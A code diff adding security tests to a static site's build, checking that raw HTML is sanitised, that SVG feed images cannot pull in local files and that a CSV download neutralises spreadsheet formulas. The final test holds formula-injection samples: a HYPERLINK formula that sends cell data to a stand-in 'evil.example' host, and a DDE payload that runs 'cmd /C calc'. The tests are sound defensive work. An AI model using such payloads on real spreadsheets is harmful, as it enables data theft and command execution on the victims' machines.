@@ -1,6 +1,9 @@
-import { readFileSync, rmSync } from "node:fs";
+import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { join, relative } from "node:path";
+import { Resvg } from "@resvg/resvg-js";
 import { parseHTML } from "linkedom";
+import Papa from "papaparse";
+import { MAX_RASTER_PIXELS, MAX_RASTER_SIDE } from "../src/schemas/limits";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { astroBuild, copyFixture } from "./helpers/astro";
 import { walkFiles } from "./helpers/distPages";
@@ -22,6 +25,12 @@ let site = "";
 beforeAll(() => {
   site = copyFixture("hostile");
   out = join(site, "dist");
+  // A private file on the build machine (a red square), named by an <image> in an MDX recap's SVG.
+  mkdirSync(join(site, "private"));
+  const secret = join(site, "private/secret.png");
+  writeFileSync(secret, new Resvg('<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50"><rect width="50" height="50" fill="#ff0000"/></svg>').render().asPng());
+  const mdx = join(site, "content/recaps/2026-02-21-inline-svg.mdx");
+  writeFileSync(mdx, readFileSync(mdx, "utf8").replace("LOCAL_PNG", secret));
   const result = astroBuild(site, out);
   if (result.status !== 0) throw new Error(`the hostile fixture did not build:\n${result.output.slice(-4000)}`);
 });
@@ -106,5 +115,87 @@ describe("hostile content renders as text", () => {
     }
     console.log(`[hostile] ${checked} feeds checked`);
     expect(problems).toEqual([]);
+  });
+});
+
+/** Width, height and pixels of a PNG, read back through resvg (it draws a PNG given as a data: image). */
+function decodePng(png: Buffer): { width: number; height: number; pixels: Uint8Array } {
+  const width = png.readUInt32BE(16);
+  const height = png.readUInt32BE(20);
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"><image href="data:image/png;base64,${png.toString("base64")}" width="${width}" height="${height}"/></svg>`;
+  return { width, height, pixels: new Resvg(svg).render().pixels };
+}
+
+describe("hostile raw HTML, SVG and data (issue 11)", () => {
+  const page = (path: string) => readFileSync(join(out, path, "index.html"), "utf8");
+  const prose = (path: string) => {
+    const { document } = parseHTML(page(path));
+    return document.querySelector(".prose")!;
+  };
+  /** Elements and attributes the sanitiser must have removed, found in a document or fragment. */
+  const unsafe = (root: { querySelectorAll(s: string): Iterable<Element> }) => {
+    const found: string[] = [];
+    for (const el of root.querySelectorAll("meta[http-equiv], iframe, form, input:not([type=checkbox]), object, embed, base, svg image, [style], [onerror], [onclick]")) found.push(el.outerHTML.slice(0, 80));
+    for (const el of root.querySelectorAll("[href], [src]")) {
+      const url = (el.getAttribute("href") ?? el.getAttribute("src") ?? "").replace(/[\u0000-\u0020]/g, "");
+      if (/^(?!https?:|mailto:)[a-z][a-z0-9+.-]*:/i.test(url)) found.push(el.outerHTML.slice(0, 80));
+    }
+    return found;
+  };
+
+  it("a .md recap's raw HTML: what could redirect, frame, submit, style or run is gone; allowed HTML and its text stay", () => {
+    const body = prose("recaps/2026-02-20-raw-html");
+    expect(unsafe(body)).toEqual([]);
+    const head = parseHTML(page("recaps/2026-02-20-raw-html")).document.querySelectorAll('meta[http-equiv="refresh"], base');
+    expect([...head].length).toBe(0);
+    expect(body.querySelector("sup")?.textContent).toBe("2");
+    expect(body.querySelector("kbd")?.textContent).toBe("Ctrl");
+    expect(body.querySelector("details summary")?.textContent).toBe("More");
+    expect(body.querySelector('a[href="https://example.org/"]')?.getAttribute("rel")).toBe("noopener");
+    expect(body.querySelector('img[alt="a picture"]')?.getAttribute("width")).toBe("120");
+    expect(body.textContent).toContain("Styled paragraph.");
+    expect(body.textContent).toMatch(/a typo.d link/); // SmartyPants curls the apostrophe
+    expect(body.querySelector("a[href*=hhttps]")).toBeNull();
+  });
+
+  it("the same in every feed item", () => {
+    const feed = JSON.parse(readFileSync(join(out, "feed.json"), "utf8")) as { items: { url: string; content_html: string }[] };
+    const item = feed.items.find((i) => i.url.endsWith("/recaps/2026-02-20-raw-html/"))!;
+    expect(unsafe(parseHTML(`<!doctype html><html><body>${item.content_html}</body></html>`).document)).toEqual([]);
+    for (const f of feed.items) expect(unsafe(parseHTML(`<!doctype html><html><body>${f.content_html}</body></html>`).document)).toEqual([]);
+  });
+
+  it("feed images: an SVG without xmlns is drawn, none is larger than the limits, and none shows the local file an <image> named", () => {
+    const dir = join(out, "feed-images");
+    const pngs = readdirSync(dir).map((name) => decodePng(readFileSync(join(dir, name))));
+    // The MDX recap's three SVGs (plus the plots of the fixture's components).
+    expect(pngs.length).toBeGreaterThanOrEqual(3);
+    const red = (p: { pixels: Uint8Array }) => {
+      let n = 0;
+      for (let i = 0; i < p.pixels.length; i += 4) if (p.pixels[i] > 200 && p.pixels[i + 1] < 60 && p.pixels[i + 2] < 60) n++;
+      return n;
+    };
+    const blue = pngs.filter((p) => p.pixels[2] > 200 && p.pixels[0] < 60);
+    expect(blue.map((p) => [p.width, p.height])).toEqual([[80, 40]]);
+    // The feed item shows the huge one at the size of its (capped) PNG, not at 8000 pixels.
+    const feed = JSON.parse(readFileSync(join(out, "feed.json"), "utf8")) as { items: { url: string; content_html: string }[] };
+    const item = feed.items.find((i) => i.url.endsWith("/recaps/2026-02-21-inline-svg/"))!;
+    const widths = [...parseHTML(`<html><body>${item.content_html}</body></html>`).document.querySelectorAll("img")].map((i) => Number(i.getAttribute("width")));
+    expect(widths).toEqual([40, 979, 50]);
+    for (const p of pngs) {
+      expect(Math.max(p.width, p.height)).toBeLessThanOrEqual(MAX_RASTER_SIDE);
+      expect(p.width * p.height).toBeLessThanOrEqual(MAX_RASTER_PIXELS);
+      expect(red(p)).toBe(0);
+    }
+  });
+
+  it("a lab named in a non-Latin script has its page; the CSV download quotes spreadsheet formulas", () => {
+    expect(existsSync(join(out, "labs/u682a-u5f0f-u4f1a-u793e/index.html"))).toBe(true);
+    expect(page("labs")).toContain("株式会社");
+    const rows = Papa.parse<Record<string, string>>(readFileSync(join(out, "data/aa-index-v4.0.csv"), "utf8"), { header: true, skipEmptyLines: true }).data;
+    const row = rows.find((r) => r.setting.includes("HYPERLINK"))!;
+    expect(row.setting).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"click")');
+    expect(row.score_note).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
